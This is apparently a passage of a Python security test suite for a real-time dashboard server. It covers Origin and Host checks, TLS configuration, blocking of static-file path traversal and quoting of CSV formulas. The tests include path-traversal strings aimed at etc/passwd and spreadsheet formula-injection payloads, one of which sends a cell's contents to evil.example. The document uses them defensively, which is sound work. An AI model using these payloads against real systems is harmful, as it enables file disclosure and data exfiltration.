        failures = []
        for o in refused:
            st, _, _ = upgrade(p, headers={"Origin": o}, host="localhost:%d" % p)
            # an 8 KB Origin does not fit lws's header space (--max-header-bytes):
            # the connection ends without any answer, and without a 101
            if st != 403 and not (len(o) > 4096 and st == 0):
                failures.append("%s: %d" % (o[:60], st))
        # two Origin headers
        req = ("GET /ws HTTP/1.1\r\nHost: localhost:%d\r\nUpgrade: websocket\r\nConnection: "
               "Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: "
               "13\r\nOrigin: http://localhost:%d\r\nOrigin: https://evil.example\r\n\r\n" % (p, p))
        with socket.create_connection((HOST, p), timeout=5) as s:
            s.sendall(req.encode())
            first = s.recv(4096).split(b"\r\n")[0]
        if b" 403" not in first:
            failures.append("two Origin headers: %r" % first)
        check(not failures, "Origins not refused with 403:\n  " + "\n  ".join(failures))
        for o in ("http://LOCALHOST:%d" % p, None, "https://dash.example"):
            st, _, _ = upgrade(p, headers={"Origin": o} if o else {}, host="localhost:%d" % p)
            check_eq(st, 101, "upgrade with Origin %s" % o)
        for path in ("/api/topics", "/ws"):
            st, _, _ = (upgrade(p, path=path, host="attacker.example:%d" % p) if path == "/ws" else
                        http_get(p, path, headers={"Host": "attacker.example"}))
            check_eq(st, 421, "Host attacker.example on %s" % path)
        for host in ("127.0.0.1:%d" % p, "[::1]:%d" % p, "localhost:%d" % p):
            st, _, _ = http_get(p, "/api/topics", headers={"Host": host})
            check_eq(st, 200, "Host %s" % host)
        st, _, _ = http_get(p, "/api/topics", headers={"Origin": "https://evil.example"})
        check_eq(st, 403, "an API request with a foreign Origin")
        ms = metrics(p)
        check(metric_find(ms, r"^rtdash_connections_refused_total$", {"reason": "origin"}) >= 8,
              "origin refusals counted")
        check(metric_find(ms, r"^rtdash_connections_refused_total$", {"reason": "host"}) >= 2,
              "host refusals counted")
        for reason, least in (("origin", 8), ("host", 2)):
            check(metric_find(ms, r"^rtdash_auth_failures_total$", {"reason": reason}) >= least,
                  "%s refusals counted among the refused credentials too" % reason)


async def test_handshake_answers():
    with Hub() as hub:
        st, _, _ = upgrade(hub.port, key=False)
        check_eq(st, 400, "an upgrade without Sec-WebSocket-Key")
        st, hd, _ = upgrade(hub.port, version="8")
        check_eq((st, hd.get("sec-websocket-version")), (426, "13"), "an unsupported version")
        st, _, _ = upgrade(hub.port, path="/nope")
        check_eq(st, 404, "an upgrade elsewhere than /ws")
        st, _, _ = upgrade(hub.port)
        check_eq(st, 101, "a good upgrade")


# ---------------------------------------------------------------- S4 TLS

def make_cert(d, name="server", days=2, cn="localhost"):
    """A self-signed P-256 certificate for localhost and 127.0.0.1."""
    key, cert = os.path.join(d, name + ".key"), os.path.join(d, name + ".crt")
    subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt",
                    "ec_paramgen_curve:P-256", "-nodes", "-keyout", key, "-out", cert, "-days",
                    str(days), "-subj", "/CN=" + cn, "-addext",
                    "subjectAltName=DNS:localhost,IP:127.0.0.1"], check=True, capture_output=True)
    os.chmod(key, 0o600)
    return cert, key


def tls_get(port, path, cafile, headers=None, method="GET", body=None):
    import ssl
    ctx = ssl.create_default_context(cafile=cafile)
    conn = http.client.HTTPSConnection("localhost", port, context=ctx, timeout=5)
    conn.request(method, path, body=body, headers=headers or {})
    r = conn.getresponse()
    out = (r.status, {k.lower(): v for k, v in r.getheaders()}, r.read())
    conn.close()
    return out


def s_client(port, flag):
    r = subprocess.run(["openssl", "s_client", "-connect", "127.0.0.1:%d" % port, flag],
                       input=b"", capture_output=True, timeout=10)
    return r.returncode == 0 and b"Cipher is (NONE)" not in r.stdout


async def test_tls():
    import ssl
    d, args = sec_dir(tokens=True, users=True)
    cert, key = make_cert(d)
    port, ingest = free_port(), free_port()
    hub = Hub(only_args=True, port=port, ingest_port=ingest, wait=False, extra_args=[
        "--port", str(port), "--host", "127.0.0.1", "--ingest", "tcp://127.0.0.1:%d" % ingest,
        "--tls-cert", cert, "--tls-key", key] + args)
    with hub:
        ok = await wait_until(lambda: _tls_up(port, cert), 10)
        check(ok, "the TLS hub answers; log:\n" + hub.log())
        st, hd, body = tls_get(port, "/healthz", cert)
        check_eq(st, 200, "https /healthz")
        check_eq(hd.get("strict-transport-security"), "max-age=31536000", "HSTS under TLS")
        check("ws:" not in hd.get("content-security-policy", "") and
              "connect-src 'self'" in hd.get("content-security-policy", ""),
              "the CSP: %r" % hd.get("content-security-policy"))
        st, _, _ = tls_get(port, "/api/topics", cert, headers=ADMIN_HDR)
        check_eq(st, 200, "https /api/topics with a token")
        st, hd, _ = tls_get(port, "/api/login", cert, method="POST",
                            body=json.dumps({"user": "alice", "password": PASSWORD}))
        check(st == 200 and "Secure" in hd.get("set-cookie", ""), "the cookie is Secure under "
              "TLS: %r" % hd.get("set-cookie"))
        ctx = ssl.create_default_context(cafile=cert)
        pub = await apublisher(hub)
        pub.sample("tls.x", {"v": 1})
        await asyncio.sleep(0.3)
        c = await WSClient.connect("wss://localhost:%d/ws" % port, ssl=ctx,
                                   subprotocols=["rtdash.v1", "bearer." + TOKEN_ADMIN])
        await c.send({"type": "subscribe", "topics": ["tls.*"], "history": True})
        h = await c.wait_for(of_type("history", "tls.x"), 5, "history over wss")
        check_eq(len(h["points"]), 1, "points over wss")
        await c.close()
        check(not s_client(port, "-tls1_1"), "TLS 1.1 refused")
        check(s_client(port, "-tls1_2") and s_client(port, "-tls1_3"), "TLS 1.2 and 1.3 served")
        try:
            st, _, _ = http_get(port, "/healthz")
        except (ConnectionError, http.client.HTTPException, OSError):
            st = 0
        check(st != 200, "plain HTTP on the TLS port is not served (got %d)" % st)
        with socket.create_connection((HOST, port), timeout=5) as s:
            s.sendall(b"\x16\x03\x01\x40\x00" + os.urandom(16384))
            try:
                s.recv(100)
            except OSError:
                pass
        st, _, _ = tls_get(port, "/healthz", cert)
        check_eq(st, 200, "the hub serves after a garbage ClientHello")
    with Hub() as plain:
        _, hd, _ = http_get(plain.port, "/healthz")
        check("strict-transport-security" not in hd, "no HSTS without TLS")


def _tls_up(port, cert):
    try:
        return tls_get(port, "/healthz", cert)[0] == 200
    except OSError:
        return False


def test_tls_bad_files_stop_the_hub():
    d = tempfile.mkdtemp(prefix="rtdash-tls-")
    cert, key = make_cert(d)
    cert2, key2 = make_cert(d, "other")
    garbage = write(d, "garbage.pem", "-----BEGIN CERTIFICATE-----\nnot base64\n", 0o644)
    readable = write(d, "readable.key", open(key).read(), 0o644)
    cases = [
        ("a key that does not match", ["--tls-cert", cert, "--tls-key", key2], "does not match"),
        ("a garbage certificate", ["--tls-cert", garbage, "--tls-key", key], "not a PEM"),
        ("a missing key", ["--tls-cert", cert, "--tls-key", os.path.join(d, "none")],
         "No such file"),
        ("a key readable by others", ["--tls-cert", cert, "--tls-key", readable], "readable"),
        ("a certificate without its key", ["--tls-cert", cert], "go together"),
        ("a key that is a directory", ["--tls-cert", cert, "--tls-key", d], "not a regular file"),
    ]
    if os.geteuid() != 0:  # root reads a mode-000 file anyway
        unreadable = write(d, "unreadable.key", open(key).read(), 0o000)
        cases.append(("a key the hub cannot read", ["--tls-cert", cert, "--tls-key", unreadable],
                      "Permission denied"))
    failures = []
    for label, a, want in cases:
        code, out = run_hub(a)
        if code != 2 or want not in out:
            failures.append("%s: exit %s, %r" % (label, code, out[:300]))
    check(not failures, "\n  ".join(failures))
    # an expired certificate starts, with a warning
    old_cert, old_key = make_cert(d, "old", days=1)
    subprocess.run(["openssl", "x509", "-in", old_cert, "-signkey", old_key, "-days", "-1",
                    "-out", old_cert], capture_output=True)
    port = free_port()
    p = subprocess.Popen([bin_path("rtdash-hub"), "--port", str(port), "--ingest",
                          "tcp://127.0.0.1:%d" % free_port(), "--tls-cert", old_cert, "--tls-key",
                          old_key], stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    time.sleep(1.0)
    p.send_signal(signal.SIGTERM)
    out = p.communicate(timeout=10)[0].decode()
    check("has expired" in out, "an expired certificate warns: %r" % out[:500])


# ---------------------------------------------------------------- S7 HTTP

def raw_keepalive(port, request, timeout=1.0):
    """Send request on a keep-alive connection; the status and whether the
    whole body (by Content-Length) arrived within timeout."""
    with socket.create_connection((HOST, port), timeout=timeout) as s:
        s.sendall(request.encode())
        data = b""
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            try:
                d = s.recv(4096)
            except socket.timeout:
                break
            if not d:
                break
            data += d
            head, sep, body = data.partition(b"\r\n\r\n")
            if sep:
                n = 0
                for line in head.split(b"\r\n")[1:]:
                    k, _, v = line.partition(b":")
                    if k.strip().lower() == b"content-length":
                        n = int(v)
                if len(body) >= n:
                    return int(head.split(b" ")[1]), head.decode("latin-1"), True
        return (int(data.split(b" ")[1]) if data[:4] == b"HTTP" else 0), data.decode(
            "latin-1", "replace"), False


async def test_static_files_contained():
    d = tempfile.mkdtemp(prefix="rtdash-web-")
    root = os.path.join(d, "web")
    os.makedirs(os.path.join(root, "js"))
    os.makedirs(os.path.join(root, ".git"))
    os.makedirs(os.path.join(root, "node_modules", "chart.js", "dist"))
    for rel, text in (("index.html", "<!doctype html>"), ("js/app.js", "1"), (".env", "SECRET"),
                      (".git/config", "x"), ("package.json", "{}"), ("../outside.txt", "SECRET"),
                      ("node_modules/chart.js/package.json", "{}"),
                      ("node_modules/chart.js/dist/chart.umd.min.js", "1"),
                      ("node_modules/chart.js/dist/chart.umd.min.js.map", "{}")):
        with open(os.path.join(root, rel), "w") as f:
            f.write(text)
    os.symlink(os.path.join(d, "outside.txt"), os.path.join(root, "link.txt"))
    os.symlink("/etc", os.path.join(root, "etc"))
    with Hub(["--web-root", root]) as hub:
        p = hub.port
        for path, want in (("/", 200), ("/index.html", 200), ("/js/app.js", 200),
                           ("/link.txt", 404), ("/etc/hostname", 404), ("/.env", 404),
                           ("/.git/config", 404), ("/package.json", 404),
                           ("/node_modules/chart.js/package.json", 404),
                           ("/vendor/chart.js/dist/chart.umd.min.js", 200),
                           ("/vendor/chart.js/dist/chart.umd.min.js.map", 404),
                           ("/vendor/chart.js/package.json", 404),
                           ("/js/../../outside.txt", 404), ("/%2e%2e/outside.txt", 404)):
            st, hd, body = http_get(p, path)
            check(st == want and b"SECRET" not in body, "%s: %d (want %d) %r" % (path, st, want,
                                                                               body[:60]))
        _, hd, _ = http_get(p, "/vendor/chart.js/dist/chart.umd.min.js")
        check("javascript" in hd.get("content-type", ""), "Chart.js's type: %s" % hd)
        # the traversal list, sent raw (no client normalises it), under each prefix
        failures = []
        for pre in ("/", "/js/", "/vendor/", "/vendor/chart.js/dist/"):
            for step in ("../", "%2e%2e/", "..%2f", "%2e%2e%2f", ".%2e/", "%2e./", "%252e%252e/",
                         "..%5c", "..\\", "%00../", "..;/"):
                for target in ("outside.txt", "etc/passwd"):
                    path = pre + step * 6 + target
                    data = raw_http(p, ("GET %s HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n"
                                        "Connection: close\r\n\r\n" % (path, p)).encode())
                    line = data.split(b"\r\n", 1)[0]
                    if b" 404 " not in line or b"SECRET" in data or b"root:" in data:
                        failures.append("%s: %r" % (path, line))
        check(not failures, "traversals not answered 404:\n  " + "\n  ".join(failures))
        # methods: a whole 405 with Allow, on a keep-alive connection, within 1 s
        for method, path in (("POST", "/"), ("PUT", "/"), ("DELETE", "/"), ("POST", "/api/topics"),
                             ("PUT", "/api/topics"), ("DELETE", "/api/topics")):
            st, head, whole = raw_keepalive(p, "%s %s HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n"
                                               "Content-Length: 0\r\n\r\n" % (method, path, p))
            check(st == 405 and whole and "allow:" in head.lower(),
                  "%s %s: %d, whole body %s, head %r" % (method, path, st, whole, head[:300]))
        # HEAD: the headers alone; on the same keep-alive connection the next
        # bytes are the answer to the GET that follows (sent after the HEAD's
        # answer: lws 4.1 does not answer pipelined requests, see README)
        for path in ("/api/topics", "/"):
            with socket.create_connection((HOST, p), timeout=2) as s:
                s.sendall(("HEAD %s HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n\r\n" % (path, p)).encode())
                data = b""
                while b"\r\n\r\n" not in data:
                    d = s.recv(4096)
                    if not d:
                        break
                    data += d
                time.sleep(0.3)  # a body, if one were sent, is here by now
                s.sendall(("GET /healthz HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n"
                           "Connection: close\r\n\r\n" % p).encode())
                try:
                    while True:
                        d = s.recv(65536)
                        if not d:
                            break
                        data += d
                except socket.timeout:
                    pass
            head, _, rest = data.partition(b"\r\n\r\n")
            check(head.startswith(b"HTTP/1.1 200") and b"content-length" in head.lower(),
                  "HEAD %s: %r" % (path, head[:200]))
            check(rest.startswith(b"HTTP/1.1 200") and b'"uptime_s"' in rest,
                  "after HEAD %s, the next bytes answer the GET: %r" % (path, rest[:300]))
        _, hd, _ = http_get(p, "/")
        csp = hd.get("content-security-policy", "")
        check("connect-src 'self'" in csp and " ws:" not in csp and " wss:" not in csp and
              "x-xss-protection" not in hd, "the page's headers: %s" % hd)


async def test_csv_formulas_quoted():
    with Hub() as hub:
        pub = await apublisher(hub)
        pub.event("ops.feed", '=HYPERLINK("http://evil.example/?"&A1,"Click")', level="warning")
        pub.sample("web.lat", {"=cmd|'/c calc'!A0": 1, "p50": -3.5})
        await asyncio.sleep(0.5)
        _, _, body = http_get(hub.port, "/api/history/ops.feed?format=csv")
        text = body.decode()
        check("\"'=HYPERLINK" in text, "event text starts with an apostrophe: %r" % text)
        _, _, body = http_get(hub.port, "/api/history/web.lat?format=csv")
        text = body.decode()
        check("\"'=cmd|" in text.splitlines()[0], "a formula field name: %r" % text)
        check(",-3.5" in text, "a negative number stays a number: %r" % text)


if __name__ == "__main__":
    run_tests(globals())
